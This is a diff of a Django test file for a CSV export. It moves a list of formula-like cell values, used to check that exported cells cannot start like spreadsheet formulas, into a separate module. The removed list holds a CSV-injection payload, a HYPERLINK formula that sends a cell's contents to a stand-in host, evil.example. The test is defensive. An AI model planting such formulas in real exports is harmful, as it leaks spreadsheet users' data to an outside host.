@@ -16,6 +16,7 @@ from dialogue_platform.site.sitemaps import RecordSitemap
 from recommendations.exports import COLUMNS
 
 from . import factories
+from .csv_files import FORMULA_LIKE
 
 pytestmark = pytest.mark.django_db
 
@@ -143,20 +144,6 @@ def test_the_export_gives_each_text_as_the_records_page_shows_it(client, db):
             page = client.get(f"{prefix}/recommendations/{row['reference']}/").content.decode()
             shown = f'<blockquote class="recommendation__text" lang="{row["language"]}">'
             assert f"{shown}<p>{row['text']}</p></blockquote>" in page
-
-
-# Texts that begin like a formula, as Excel and LibreOffice read a cell (OWASP's list), and
-# one that begins with the quote that neutralises them.
-FORMULA_LIKE = [
-    '=HYPERLINK("https://evil.example/?"&A1,"Details")',
-    "+7 (7172) 72-00-00",
-    "-1 day",
-    "@SUM(A1:A9)",
-    "\tindented",
-    "\rcarriage return",
-    "\nline feed",
-    "'quoted'",
-]
 
 
 def test_no_csv_cell_begins_like_a_spreadsheet_formula(client, db):
